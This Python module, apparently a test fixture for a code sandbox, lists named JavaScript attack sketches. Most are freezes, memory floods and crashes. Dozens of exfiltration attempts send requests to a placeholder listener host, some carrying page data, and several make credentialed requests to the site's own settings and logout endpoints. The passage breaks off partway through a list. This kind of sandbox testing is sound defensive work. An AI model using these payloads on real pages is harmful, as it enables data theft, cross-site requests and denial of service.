"""Sketches that try to freeze, flood, leave, listen or lie: our own collection, each known by its name.

In a source stand for what is to be reached: `{listener}`, an address of its own at a listener on another port (as `{ws}` and
`{host}` for other schemes), `{dns}`, a name of its own that nobody has, and `{site}`, the site itself. What a sketch could read
it says in its console. Memory is asked for in gulps that end.

The kinds: `freeze` never comes back, `burn` works hard but answers, `draw` keeps the browser's one process for drawing busy
(the page answers, but shows it late), `crash` ends its own process, `memory` wants much of it, `leak` must reach nobody, `read`
must learn nothing of the page, `act` must do nothing to it (it is clicked on, too), `flood` is loud, `forge` runs in place of
our own runner and has its `port` to the page, `neo` misuses what a sketch may ask of the site.
"""

from typing import NamedTuple


class Attack(NamedTuple):
    name: str
    kind: str
    engine: str
    source: str
    uses: tuple[str, ...] = ()


FREEZES = {
    # loops
    "while": "while (true) {}",
    "for-ever": "for (;;);",
    "do-while": "do { Math.random() } while (1)",
    "nested-loops": "for (;;) for (let a = 0; a < 1e9; a++) for (let b = 0; b < 1e9; b++) { if (a < 0) break }",
    "labelled-loop": "over: for (;;) { for (const one of [1, 2]) continue over }",
    "loop-that-catches": "for (;;) { try { for (;;) {} } catch { continue } finally { continue }  }",
    "loop-in-a-frame": "requestAnimationFrame(function draw() { while (true) {} })",
    "loop-in-a-timer": "setTimeout(() => { while (true) {} }, 100)",
    "loop-in-an-event": "addEventListener('go', () => { for (;;) {} }); dispatchEvent(new Event('go'))",
    "loop-in-a-getter": "const trap = {get x() { for (;;) {} }}; trap.x",
    "loop-in-a-proxy": "new Proxy({}, {get() { for (;;) {} }, has() { for (;;) {} }}).x",
    "loop-in-a-generator": "function* ever() { for (;;) yield 1 }\nfor (const one of ever()) {}",
    "loop-in-a-setter": "class Trap { set x(value) { this.x_ = value; while (value) {} } }; new Trap().x = 1",
    "loop-in-static": "class Trap { static { for (;;) {} } }",
    "loop-in-a-default": "function trap(x = (() => { for (;;) {} })()) {}; trap()",
    "loop-in-a-tag": "((parts) => { for (;;) {} })`x`",
    "loop-in-to-string": "const trap = {toString() { for (;;) {} }}; console.log(String(trap))",
    "loop-in-to-json": "console.log({toJSON() { for (;;) {} }}, {get [Symbol.toStringTag]() { for (;;) {} }})",
    "loop-in-what-is-logged": "console.log(new Proxy([], {get() { for (;;) {} }, ownKeys() { for (;;) {} }}))",
    "loop-in-what-is-thrown": "throw {get message() { for (;;) {} }, get stack() { for (;;) {} }, toString() { for (;;) {} }}",
    "loop-in-an-iterator": "const [...all] = {[Symbol.iterator]: () => ({next: () => ({done: false, value: 0})})}",
    "loop-over-awaits": "(async () => { for (;;) await 0 })()",
    # microtasks
    "promises-for-ever": "const again = () => Promise.resolve().then(again); again()",
    "microtasks-for-ever": "(function again() { queueMicrotask(again) })()",
    "thenable-of-itself": "const ever = {then(settle) { settle(ever) }}; Promise.resolve(ever)",
    "rejections-for-ever": "const again = () => Promise.reject(new Error('no')).catch(again); again()",
    "observer-for-ever": "const box = document.createElement('p'); document.body.append(box);"
        " new MutationObserver(() => box.append('x')).observe(box, {childList: true}); box.append('x')",
    "async-iterator-for-ever": "(async () => { for await (const one of (async function* () { for (;;) yield 0 })()) {} })()",
    # nothing that a loop guard could see
    "regular-expression": "/^(a+)+$/.test('a'.repeat(60) + 'b')",
    "regular-expression-with-names": "setTimeout(() => { /(x+x+)+y/.exec('x'.repeat(80)) }, 50)",
    "regular-expression-that-looks-back": "setTimeout(() => { 'a'.repeat(60).replace(/(?<=^(a|aa)+)b|^(a|a?)+$b/g, '') }, 50)",
    "array-without-end": "setTimeout(() => { Array.prototype.includes.call({length: 2 ** 53 - 1}, 1) }, 50)",
    "big-number": "setTimeout(() => { (7n ** 9000000n).toString() }, 50)",
    "loop-in-eval": "eval('for (;;) {}')",
    "loop-in-a-function-of-text": "Function('for (;;) {}')()\nsetTimeout('for (;;) {}')",
    "loop-in-a-script-element":
        "setTimeout(() => { const script = document.createElement('script'); script.textContent = 'for (;;) {}'; document.body.append(script) }, 50)",
    "loop-in-a-handler-of-text": "document.body.insertAdjacentHTML('beforeend', '<img src=x: onerror=\"for (;;) {}\">')",
    "loop-in-a-script-address": "location.href = 'javascript:for (;;) {}'",
    "loop-in-webassembly": "const bytes = Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0, 1, 4, 1, 96, 0, 0, 3, 2, 1, 0, 7, 5, 1, 1,"
        " 102, 0, 0, 10, 9, 1, 7, 0, 3, 64, 12, 0, 11, 11); new WebAssembly.Instance(new WebAssembly.Module(bytes)).exports.f()",
    "loop-without-clocks": "performance.now = Date.now = () => 0; Date.prototype.getTime = () => 0; while (true) {}",
    "loop-without-errors": "Error = Object; TypeError = Object; Object.defineProperty = Object.freeze = () => 0; while (true) {}",
    "loop-without-messages":
        "MessagePort.prototype.postMessage = () => 0; MessageChannel = setTimeout = setInterval = () => 0; while (true) {}",
    "timers-that-multiply": "(function fork() { setTimeout(fork); setTimeout(fork); for (let n = 0; n < 1e5; n++); })()",
    "layout-thrash": "setTimeout(() => { for (let n = 0; n < 4e4; n++) document.body.append(document.createElement('p')); for (let n = 0; n < 1e6; n++)"
        " { document.body.style.padding = n % 9 + 'px'; document.body.offsetHeight } }, 50)",
    "element-that-has-itself": "customElements.define('x-self', class extends HTMLElement { connectedCallback() {"
        " for (;;) this.append(document.createElement('x-self')) } }); document.body.append(document.createElement('x-self'))",
}

P5_FREEZES = {
    "loop-in-setup": "function setup() { createCanvas(200, 200); while (true) {} }",
    "loop-in-draw": "function setup() { createCanvas(200, 200) }\nfunction draw() { if (frameCount > 5) while (true) { ellipse(9, 9, 9) } }",
    "loop-in-mouse-moved": "function setup() { createCanvas(200, 200); mouseMoved({}) }\nfunction mouseMoved() { for (;;) {} }",
    "no-end-of-noise": "function setup() { createCanvas(200, 200) }\nfunction draw() { for (let x = 0; ; x += 0.01) point(x, noise(x)) }",
}

THREE_FREEZES = {
    "loop-in-the-animation": "import * as THREE from 'three'\nrequestAnimationFrame(function ever() { new THREE.Vector3(); for (;;) {} })",
    "loop-in-a-module": "import {Vector3} from 'three'\nwhile (new Vector3()) {}",
    "loop-in-traverse": "import {Group} from 'three'\nconst group = new Group(); group.traverse(one => { for (;;) {} })",
    "await-for-ever": "import {Clock} from 'three'\nfor (;;) await 0",
}

BURNS = {
    "recursion": "function deeper(n) { return deeper(n + 1) + 1 }; deeper(0)",
    "recursion-of-two": "const a = n => b(n), b = n => a(n); addEventListener('click', a); a(0)",
    "recursion-in-to-string": "const self = {toString() { return `${self}` }}; `${self}`",
    "recursion-that-catches": "function deeper() { try { deeper() } catch { return 1 } }; setInterval(deeper, 5)",
    "recursion-of-json": "let text = '['.repeat(2e5) + ']'.repeat(2e5); JSON.stringify(JSON.parse(text)); console.log(JSON.parse(text))",
    "heavy-frames": "requestAnimationFrame(function draw() { const end = performance.now() + 400; while (performance.now() < end);"
        " requestAnimationFrame(draw) })",
    "timers-of-zero": "for (let n = 0; n < 300; n++) setInterval(() => Math.sqrt(n), 0)",
    "styles-that-multiply": "const style = document.createElement('style'); style.textContent = 'p { --a0: xxxxxxxx; '"
        " + [...Array(26).keys()].map(n => `--a${n + 1}: var(--a${n}) var(--a${n}) var(--a${n})`).join('; ')"
        " + '; content: var(--a26) }'; document.head.append(style); document.body.append(document.createElement('p'))",
    "drawing-that-multiplies": "let text = '<circle id=\"u0\" r=\"1\"/>'; for (let n = 0; n < 9; n++) text += `<g id=\"u${n + 1}\">`"
        " + `<use href=\"#u${n}\"/>`.repeat(8) + '</g>'; document.body.insertAdjacentHTML('beforeend', `<svg>${text}</svg>`)",
    "reload": "setTimeout(() => location.reload(), 50)",
    "write-for-ever": "setInterval(() => { document.open(); document.write('<p>over and over'); document.close() }, 1)",
    "sound-without-end": "new OfflineAudioContext(2, 44100 * 3000, 44100).startRendering()",
    "keys-without-end": "for (let n = 0; n < 8; n++) crypto.subtle.importKey('raw', new Uint8Array(32), 'PBKDF2', false, ['deriveBits'])"
        ".then(key => crypto.subtle.deriveBits({name: 'PBKDF2', salt: new Uint8Array(8), iterations: 2e9, hash: 'SHA-512'}, key, 256))",
    "loop-in-a-worker": "new Worker(URL.createObjectURL(new Blob(['for (;;) {}'])))",
    "loop-in-a-worker-of-data": "new Worker('data:text/javascript,for (;;) {}')",
    "loop-in-a-shared-worker": "new SharedWorker('data:text/javascript,for (;;) {}')",
    "loop-in-a-shader": "const gl = document.createElement('canvas').getContext('webgl2'); const make = (type, text) => { const s ="
        " gl.createShader(type); gl.shaderSource(s, text); gl.compileShader(s); gl.attachShader(p, s) }; const p = gl.createProgram();"
        " make(gl.VERTEX_SHADER, 'void main() { gl_Position = vec4(0, 0, 0, 1); gl_PointSize = 90.0; }'); make(gl.FRAGMENT_SHADER,"
        " 'precision highp float; void main() { float x = 0.0; for (int i = 0; i < 200000; i++) x += sin(x + float(i));"
        " gl_FragColor = vec4(x); }'); gl.linkProgram(p); gl.useProgram(p); gl.drawArrays(gl.POINTS, 0, 1)",
}

DRAWINGS = {
    "filters": "document.body.insertAdjacentHTML('beforeend', `<svg width=2000 height=2000><filter id=f>${"
        "'<feTurbulence baseFrequency=\".9\" numOctaves=\"99\"/><feGaussianBlur stdDeviation=\"200\"/>'.repeat(20)}</filter>"
        "<rect width=2000 height=2000 filter=url(#f) /></svg>`)",
    "blur-of-everything": "for (let n = 0; n < 400; n++) { const box = document.createElement('p'); document.body.append(box);"
        " box.style.cssText = 'position: fixed; inset: 0; backdrop-filter: blur(90px); animation: spin 1s infinite' }",
}

CRASHES = {
    "deep-elements": "setTimeout(() => { let box = document.body; for (let n = 0; n < 4e4; n++) box = box.appendChild("
        "document.createElement('b')); box.offsetTop }, 50)",
}

MEMORY = {
    "arrays": "const kept = []; const timer = setInterval(() => { kept.push(new Uint8Array(8e6).fill(1));"
        " if (kept.length > 30) clearInterval(timer) }, 20)",
    "text": "let text = 'x'; while (text.length < 2 ** 26) text += text; const kept = []; for (let n = 0; n < 4; n++) kept.push([...text.slice(0, 4e6)])",
    "objects": "const kept = new Map(); for (let n = 0; n < 1e6; n++) kept.set({n}, [n])",
    "too-long-a-text": "let text = 'x'.repeat(2 ** 20); for (;;) { try { text += text } catch { break } }",
    "too-long-an-array": "for (let n = 0; n < 50; n++) try { new ArrayBuffer(2 ** 40); } catch {} ; try { new Array(2 ** 32 - 1).fill(0, 0, 3e6) } catch {}",
    "canvases": "for (let n = 0; n < 12; n++) { const canvas = document.createElement('canvas'); canvas.width = canvas.height = 2000;"
        " canvas.getContext('2d').fillRect(0, 0, 2000, 2000); document.body.append(canvas) }",
    "canvas-too-large": "const canvas = document.createElement('canvas'); canvas.width = canvas.height = 32767;"
        " canvas.getContext('2d')?.getImageData(0, 0, 4000, 4000)",
    "blobs": "const kept = []; for (let n = 0; n < 30; n++) kept.push(URL.createObjectURL(new Blob([new Uint8Array(4e6)])))",
    "elements": "for (let n = 0; n < 1e5; n++) document.body.append(document.createElement('i'))",
    "clones": "const big = new Uint8Array(8e6); const channel = new MessageChannel(); for (let n = 0; n < 20; n++) channel.port1.postMessage(big)",
    "microtasks-that-multiply": "let n = 0; (function fork() { if (n++ < 5e5) { Promise.resolve().then(fork); Promise.resolve().then(fork) } })()",
    "shared-memory": "new WebAssembly.Memory({initial: 2000, maximum: 65536, shared: true})",
    "sounds": "const context = new AudioContext(); const kept = []; for (let n = 0; n < 20; n++) kept.push(context.createBuffer(2, 1e6, 44100))",
}

LEAKS = {
    # requests
    "fetch": "fetch('{listener}')",
    "fetch-opaque": "fetch('{listener}', {mode: 'no-cors', credentials: 'include', method: 'POST', body: 'data'})",
    "fetch-keepalive": "fetch('{listener}', {keepalive: true, method: 'POST', body: 'data'})",
    "fetch-later": "fetchLater('{listener}', {activateAfter: 0})",
    "fetch-early": "const {fetch: early} = window; self.fetch = null; Reflect.apply(early, window, ['{listener}'])",
    "xhr": "const ask = new XMLHttpRequest(); ask.open('POST', '{listener}'); ask.send('data')",
    "xhr-that-waits": "const ask = new XMLHttpRequest(); ask.open('GET', '{listener}', false); ask.send()",
    "beacon": "navigator.sendBeacon('{listener}', 'data')",
    "event-source": "new EventSource('{listener}')",
    "websocket": "new WebSocket('ws://{host}/{name}')",
    "websocket-stream": "new WebSocketStream('ws://{host}/{name}')",
    "webtransport": "new WebTransport('https://{host}/{name}').ready.catch(() => 0)",
    "anchor-ping": "const a = document.createElement('a'); a.href = '#x'; a.ping = '{listener}'; document.body.append(a); a.click()",
    # peers
    "stun": "const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:{host}'}]}); peer.createDataChannel('x');"
        " peer.createOffer().then(offer => peer.setLocalDescription(offer))",
    "turn": "const peer = new RTCPeerConnection({iceServers: [{urls: 'turn:{host}?transport=tcp', username: 'data', credential: 'x'}]});"
        " peer.createDataChannel('x'); peer.createOffer().then(offer => peer.setLocalDescription(offer))",
    "stun-by-an-old-name": "const peer = new webkitRTCPeerConnection({iceServers: [{urls: 'stun:{host}'}]}); peer.createDataChannel('x');"
        " peer.createOffer().then(offer => peer.setLocalDescription(offer))",
    "stun-from-an-empty-frame": "const frame = document.createElement('iframe'); document.body.append(frame);"
        " const peer = new frame.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:{host}'}]}); peer.createDataChannel('x');"
        " peer.createOffer().then(offer => peer.setLocalDescription(offer))",
    "stun-from-a-frame-of-text": "const frame = document.createElement('iframe'); frame.srcdoc = `<script>const peer = new RTCPeerConnection("
        "{iceServers: [{urls: 'stun:{host}'}]}); peer.createDataChannel('x'); peer.createOffer().then(o => peer.setLocalDescription(o))"
        "<\\/script>`; document.body.append(frame)",
    "stun-from-a-frame-in-html": "document.body.innerHTML = `<iframe id=f></iframe>`; const peer = new f.contentWindow.RTCPeerConnection("
        "{iceServers: [{urls: 'stun:{host}'}]}); peer.createDataChannel('x'); peer.createOffer().then(o => peer.setLocalDescription(o))",
    "stun-from-an-object": "const object = document.createElement('object'); object.data = 'about:blank'; document.body.append(object);"
        " const peer = new object.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:{host}'}]}); peer.createDataChannel('x');"
        " peer.createOffer().then(o => peer.setLocalDescription(o))",
    "stun-from-a-parsed-frame": "const parsed = new DOMParser().parseFromString('<iframe></iframe>', 'text/html').querySelector('iframe');"
        " document.body.append(parsed); const peer = new parsed.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:{host}'}]});"
        " peer.createDataChannel('x'); peer.createOffer().then(o => peer.setLocalDescription(o))",
    "stun-from-a-cloned-frame": "const holder = document.createElement('template'); holder.innerHTML = '<iframe></iframe>';"
        " const frame = document.importNode(holder.content, true).firstChild; document.body.append(frame); const peer = new"
        " frame.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:{host}'}]}); peer.createDataChannel('x');"
        " peer.createOffer().then(o => peer.setLocalDescription(o))",
    "stun-after-writing": "document.open(); document.write(`<script>const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:{host}'}]});"
        " peer.createDataChannel('x'); peer.createOffer().then(o => peer.setLocalDescription(o))<\\/script>`); document.close()",
    "stun-from-a-written-frame": "document.write('<iframe id=w></iframe>'); const peer = new (document.getElementById('w').contentWindow)"
        ".RTCPeerConnection({iceServers: [{urls: 'stun:{host}'}]}); peer.createDataChannel('x');"
        " peer.createOffer().then(o => peer.setLocalDescription(o))",
    # pictures
    "image": "new Image().src = '{listener}'",
    "image-element": "document.body.insertAdjacentHTML('beforeend', '<img src={listener}>')",
    "image-srcset": "document.body.insertAdjacentHTML('beforeend', '<img srcset=\"{listener} 1x\">')",
    "picture-source": "document.body.insertAdjacentHTML('beforeend', '<picture><source srcset={listener}><img></picture>')",
    "image-input": "document.body.insertAdjacentHTML('beforeend', '<input type=image src={listener}>')",
    "image-attribution": "document.body.insertAdjacentHTML('beforeend', '<img attributionsrc={listener} src={listener}>')",
    "body-background": "document.body.setAttribute('background', '{listener}')",
    "video-poster": "document.body.insertAdjacentHTML('beforeend', '<video poster={listener}></video>')",
    "image-of-the-cookie": "new Image().src = '{listener}?' + encodeURIComponent(document.title + location.href)",
    "svg-image": "document.body.insertAdjacentHTML('beforeend', '<svg><image href={listener} width=9 height=9 /></svg>')",
    "svg-image-that-moves": "document.body.insertAdjacentHTML('beforeend',"
        " '<svg><image width=9 height=9><set attributeName=href to={listener} /></image></svg>')",
    "svg-use": "document.body.insertAdjacentHTML('beforeend', '<svg><use href={site}/x.svg?leak={name}#x /></svg>'); new Image().src = '{listener}'",
    "svg-filter": "document.body.insertAdjacentHTML('beforeend', '<svg><filter id=f><feImage href={listener} /></filter>"
        "<rect width=9 height=9 filter=url(#f) /></svg>')",
    "svg-script": "const svg = 'http://www.w3.org/2000/svg'; const script = document.createElementNS(svg, 'script');"
        " script.setAttribute('href', '{listener}'); document.body.appendChild(document.createElementNS(svg, 'svg')).append(script)",
    # styles
    "style-background": "document.body.style.background = 'url({listener})'",
    "style-import": "document.head.insertAdjacentHTML('beforeend', '<style>@import url({listener});</style>')",
    "style-cursor": "document.body.style.cssText = 'height: 90px; cursor: url({listener}), auto; list-style: url({listener});"
        " display: list-item; border: 9px solid; border-image: url({listener}) 9'",
    "style-mask": "document.body.style.cssText = 'height: 90px; mask-image: url({listener})'",
    "style-image-set": "document.body.style.background = 'image-set(\"{listener}\" 1x)'",
    "style-content": "document.head.insertAdjacentHTML('beforeend', '<style>body::before { content: url({listener}) }</style>')",
    "style-filter": "document.body.insertAdjacentHTML('beforeend', '<p style=\"filter: url({listener}.svg#f); clip-path: url({listener}.svg#c)\">x</p>')",
    "style-font": "document.head.insertAdjacentHTML('beforeend', '<style>@font-face { font-family: leak; src: url({listener}) }"
        " body { font: 9px leak }</style>x'); document.body.append('text')",
    "style-by-attribute": "document.head.insertAdjacentHTML('beforeend', '<style>input[value^=s] { background: url({listener}) }</style>');"
        " document.body.insertAdjacentHTML('beforeend', '<input value=secret>')",
    "style-adopted": "const sheet = new CSSStyleSheet(); sheet.replaceSync('html { background: url({listener}) }');"
        " document.adoptedStyleSheets = [sheet]",
    "font-face": "new FontFace('leak', 'url({listener})').load().catch(() => 0)",
    "paint-worklet": "CSS.paintWorklet.addModule('{listener}.js')",
    "audio-worklet": "new AudioContext().audioWorklet.addModule('{listener}.js')",
    # media and plug-ins
    "video": "document.body.insertAdjacentHTML('beforeend', '<video src={listener} autoplay muted></video>')",
    "audio": "new Audio('{listener}').play().catch(() => 0)",
    "video-source": "document.body.insertAdjacentHTML('beforeend', '<video autoplay muted><source src={listener} type=video/mp4></video>')",
    "video-track": "document.body.insertAdjacentHTML('beforeend', '<video crossorigin src=x><track default kind=subtitles src={listener}></video>');"
        " document.querySelector('track').track.mode = 'showing'",
    "object": "document.body.insertAdjacentHTML('beforeend', '<object data={listener}></object>')",
    "embed": "document.body.insertAdjacentHTML('beforeend', '<embed src={listener}>')",
    # frames
    "frame": "document.body.insertAdjacentHTML('beforeend', '<iframe src={listener}></iframe>')",
    "frame-made": "const frame = document.createElement('iframe'); frame.src = '{listener}'; document.body.append(frame)",
    "frame-made-in-xml": "const frame = new Document().createElementNS('http://www.w3.org/1999/xhtml', 'iframe'); frame.src = '{listener}';"
        " document.body.append(frame)",
    "frame-of-text": "const frame = document.createElement('iframe'); frame.srcdoc = '<img src={listener}>'; document.body.append(frame)",
    "frame-of-script": "const frame = document.createElement('iframe'); frame.src = 'javascript:\"<img src={listener}>\"';"
        " document.body.append(frame)",
    "frame-of-a-blob": "const frame = document.createElement('iframe'); frame.src = URL.createObjectURL(new Blob("
        "['<img src={listener}>'], {type: 'text/html'})); document.body.append(frame)",
    "frame-in-a-frame": "const frame = document.createElement('iframe'); frame.srcdoc = '<iframe srcdoc=\"<img src={listener}>\"></iframe>';"
        " document.body.append(frame)",
    "frame-by-html": "document.body.setHTMLUnsafe('<iframe src={listener}></iframe>')",
    "frame-by-range": "document.body.append(document.createRange().createContextualFragment('<iframe src={listener}></iframe>'))",
    "frame-by-shadow": "document.body.insertAdjacentHTML('beforeend', '<p></p>'); document.querySelector('p').attachShadow({mode: 'open'})"
        ".innerHTML = '<iframe src={listener}></iframe>'",
    "frame-by-template": "document.body.setHTMLUnsafe('<p><template shadowrootmode=open><iframe src={listener}></iframe></template></p>')",
    "frame-by-svg": "document.body.insertAdjacentHTML('beforeend', '<svg><foreignObject><iframe src={listener}></iframe></foreignObject></svg>')",
    "frameset": "const set = document.createElement('frameset'); set.innerHTML = '<frame src={listener}>'; document.body.replaceWith(set)",
    "frame-nested-elements": "customElements.define('x-a', class extends HTMLElement { connectedCallback() { this.append("
        "document.createElement('x-b')) } }); customElements.define('x-b', class extends HTMLElement { connectedCallback() {"
        " this.innerHTML = '<iframe src={listener}></iframe><img src={listener}>' } }); document.body.append(document.createElement('x-a'))",
    # scripts
    "script": "const script = document.createElement('script'); script.src = '{listener}.js'; document.body.append(script)",
    "script-module": "const script = document.createElement('script'); script.type = 'module'; script.textContent = 'import \"{listener}.js\"';"
        " document.body.append(script)",
    "script-import": "import('{listener}.js')",
    "script-import-map": "const map = document.createElement('script'); map.type = 'importmap'; map.textContent ="
        " '{\"imports\": {\"leak\": \"{listener}.js\"}}'; document.head.append(map); import('leak')",
    "script-import-json": "import('{listener}.json', {with: {type: 'json'}})",
    "script-worker-of-a-blob": "new Worker(URL.createObjectURL(new Blob(['fetch(\"{listener}\"); importScripts(\"{listener}.js\")'])))",
    "script-worker-module": "new Worker('data:text/javascript,import \"{listener}.js\"', {type: 'module'})",
    "script-shared-worker": "new SharedWorker(URL.createObjectURL(new Blob(['fetch(\"{listener}\")'])))",
    "script-service-worker": "navigator.serviceWorker.register('{site}/sw.js?leak={name}').catch(() => 0); fetch('{listener}')",
    "script-xslt": "const sheet = new DOMParser().parseFromString(`<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>"
        "<xsl:import href='{listener}'/><xsl:template match='/'><img src='{listener}'/></xsl:template></xsl:stylesheet>`, 'text/xml');"
        " const xslt = new XSLTProcessor(); xslt.importStylesheet(sheet); document.body.append(xslt.transformToFragment(sheet, document))",
    "script-in-eval": "eval('fetch(\"{listener}\")')",
    "script-in-a-function": "Function('fetch(\"{listener}\")')()",
    "script-in-a-timer": "setTimeout('fetch(\"{listener}\")')",
    "script-in-a-handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x: onerror=fetch(\"{listener}\")>')",
    "script-of-a-blob": "const script = document.createElement('script'); script.src = URL.createObjectURL(new Blob(['fetch(\"{listener}\")']));"
        " document.body.append(script)",
    "script-of-data": "import('data:text/javascript,fetch(\"{listener}\")')",
    "script-by-policy": "trustedTypes.createPolicy('mine', {createScriptURL: text => text, createHTML: text => text});"
        " const script = document.createElement('script'); script.src = '{listener}.js'; document.body.append(script)",
    # hints
    **{f"link-{rel}": f"const link = document.createElement('link'); link.rel = '{rel}'; link.href = '{{listener}}'; {more}"
        "document.head.append(link)" for rel, more in {
            "stylesheet": "", "prefetch": "", "preload": "link.as = 'image'; ", "modulepreload": "", "prerender": "", "icon": "",
            "manifest": "", "preconnect": "", "compression-dictionary": "",
        }.items()},
    "link-in-html": "document.head.insertAdjacentHTML('beforeend', '<link rel=preconnect href={listener}><link rel=stylesheet href={listener}>')",
    "link-preload-set": "document.head.insertAdjacentHTML('beforeend', '<link rel=preload as=image imagesrcset={listener}>')",
    "link-from-xml": "const link = new DOMParser().parseFromString('<link xmlns=\"http://www.w3.org/1999/xhtml\" rel=\"preconnect\""
        " href=\"{listener}\"/>', 'text/xml').documentElement; document.head.append(link)",
    "link-by-import": "const link = document.implementation.createHTMLDocument().createElement('link'); link.rel = 'stylesheet';"
        " link.href = '{listener}'; document.head.append(document.adoptNode(link))",
    "link-by-parse": "document.head.append(...Document.parseHTMLUnsafe('<link rel=preconnect href={listener}><link rel=stylesheet"
        " href={listener}>').querySelectorAll('link'))",
    "link-by-writing": "document.write('<link rel=preconnect href={listener}><link rel=stylesheet href={listener}>')",
    "dns-prefetch": "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=x-dns-prefetch-control content=on>"
        "<link rel=dns-prefetch href=//{dns}>'); const link = document.createElement('link'); link.rel = 'dns-prefetch';"
        " link.href = '//{dns}'; document.head.append(link)",
    "dns-of-an-anchor": "document.body.insertAdjacentHTML('beforeend', '<a href=http://{dns}>x</a>'); new Image().src = 'http://{dns}/'",
    "dns-of-a-peer": "const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:{dns}'}]}); peer.createDataChannel('x');"
        " peer.createOffer().then(offer => peer.setLocalDescription(offer))",
    "speculation": "const script = document.createElement('script'); script.type = 'speculationrules'; script.textContent = JSON.stringify("
        "{prefetch: [{source: 'list', urls: ['{listener}'], eagerness: 'immediate', requires: ['anonymous-client-ip-when-cross-origin']}],"
        " prerender: [{source: 'list', urls: ['{site}/?leak={name}'], eagerness: 'immediate'}]}); document.head.append(script);"
        " new Image().src = '{listener}'",
    "meta-refresh": "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content=\"0;url={listener}\">')",
    "meta-policy": "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=Content-Security-Policy content=\"img-src *\">');"
        " new Image().src = '{listener}'",
    "base": "document.head.insertAdjacentHTML('afterbegin', '<base href={listener}/>'); new Image().src = 'relative.png'",
    "base-made": "const base = document.createElement('base'); base.href = '{listener}/'; document.head.prepend(base); new Image().src = 'it.png'",
    # forms
    "form": "document.body.insertAdjacentHTML('beforeend', '<form id=f method=post action={listener}><input name=a value=data></form>'); f.submit()",
    "form-by-a-button": "document.body.insertAdjacentHTML('beforeend', '<form><button formaction={listener}>x</button></form>');"
        " document.querySelector('button').click()",
    "form-elsewhere": "document.body.insertAdjacentHTML('beforeend', '<iframe name=n></iframe><form id=f target=n action={listener}></form>'); f.submit()",
    "form-in-a-frame": "const frame = document.createElement('iframe'); frame.srcdoc ="
        " '<form id=f action={listener}></form><script>f.submit()<\\/script>'; document.body.append(frame)",
    # going there oneself
    "go-href": "location.href = '{listener}?' + encodeURIComponent('data')",
    "go-replace": "location.replace('{listener}')",
    "go-assign": "location.assign('{listener}')",
    "go-search": "location.search = 'leak={name}'; setTimeout(() => { location = '{listener}' })",
    "go-navigation": "navigation.navigate('{listener}').finished.catch(() => 0)",
    "go-open-self": "open('{listener}', '_self')",
    "go-anchor": "const a = document.createElement('a'); a.href = '{listener}'; document.body.append(a); a.click()",
    "go-area": "document.body.insertAdjacentHTML('beforeend', '<map><area href={listener}></map>'); document.querySelector('area').click()",
    "go-svg-anchor": "document.body.insertAdjacentHTML('beforeend', '<svg><a href={listener}><text y=9>x</text></a></svg>');"
        " document.querySelector('svg a').dispatchEvent(new MouseEvent('click', {bubbles: true}))",
    "go-script-address": "location = 'javascript:\"<img src={listener}>\"'",
    "go-data": "location = 'data:text/html,<script>fetch(\"{listener}\")<\\/script><img src={listener}>'; setTimeout(() => location = '{listener}', 50)",
    "go-blob": "location = URL.createObjectURL(new Blob(['<script>fetch(\"{listener}\")<\\/script><img src={listener}>'], {type: 'text/html'}))",
    "go-blank": "location = 'about:blank'; fetch('{listener}', {keepalive: true})",
    "go-srcdoc": "try { location = 'about:srcdoc' } catch {} ; fetch('{listener}', {keepalive: true})",
    "go-write": "document.open(); document.write('<img src={listener}><script>fetch(\"{listener}\")<\\/script>'); document.close()",
    "go-by-hash": "location.hash = 'data'; fetch('{listener}#' + location.hash)",
    # less known doors
    "payment": "new PaymentRequest([{supportedMethods: '{listener}'}], {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}})"
        ".canMakePayment().catch(() => 0); fetch('{listener}')",
    "sign-in": "navigator.credentials.get({identity: {providers: [{configURL: '{listener}', clientId: 'x'}]}}).catch(() => 0); fetch('{listener}')",
    "media-session": "navigator.mediaSession.metadata = new MediaMetadata({title: 'x', artwork: [{src: '{listener}'}]}); fetch('{listener}')",
    "notification-icon": "try { new Notification('x', {icon: '{listener}'}) } catch {} ; fetch('{listener}')",
    "report-only": "new ReportingObserver(() => fetch('{listener}')).observe(); fetch('{listener}')",
    "decoder": "new ImageDecoder({type: 'image/png', data: new ReadableStream()}); createImageBitmap(new Blob()).catch(() => fetch('{listener}'))",
    "event-attributes": "document.body.setAttribute('onclick', 'fetch(\"{listener}\")'); document.body.click()",
    "fresh-fetch": "const frame = document.createElement('iframe'); document.body.append(frame); frame.contentWindow.fetch('{listener}')",
    "fresh-function": "(async () => {}).constructor('return fetch(\"{listener}\")')()",
}

SITE_LEAKS = {  # these ask our own site for what it gives to those who are signed in
    "site-fetch": "fetch('{site}/settings?leak={name}', {credentials: 'include', mode: 'no-cors'})",
    "site-image": "new Image().src = '{site}/uploads/x.webp?leak={name}'",
    "site-frame": "document.body.insertAdjacentHTML('beforeend', '<iframe src={site}/settings?leak={name}></iframe>')",
    "site-go": "location = '{site}/rooms/lobby?leak={name}'",
    "site-form": "document.body.insertAdjacentHTML('beforeend', '<form id=f method=post action={site}/logout?leak={name}></form>'); f.submit()",
    "site-socket": "new WebSocket('{site}/socket.io/?EIO=4&transport=websocket&leak={name}'.replace('http', 'ws'))",
    "site-polling": "const ask = new XMLHttpRequest(); ask.withCredentials = true; ask.open('GET', '{site}/socket.io/?EIO=4&leak={name}'); ask.send()",
    "site-script": "import('{site}/rooms?leak={name}')",
    "site-worker": "new Worker('{site}/?leak={name}')",
    "site-beacon": "navigator.sendBeacon('{site}/logout?leak={name}')",
}

P5_1_LEAKS = {
    "p5-load-image": "function preload() { loadImage('{listener}') }\nfunction setup() { createCanvas(50, 50) }",
    "p5-load-json": "function setup() { createCanvas(50, 50); loadJSON('{listener}', () => 0, () => 0) }",
    "p5-load-font": "function setup() { createCanvas(50, 50); loadFont('{listener}', () => 0, () => 0) }",
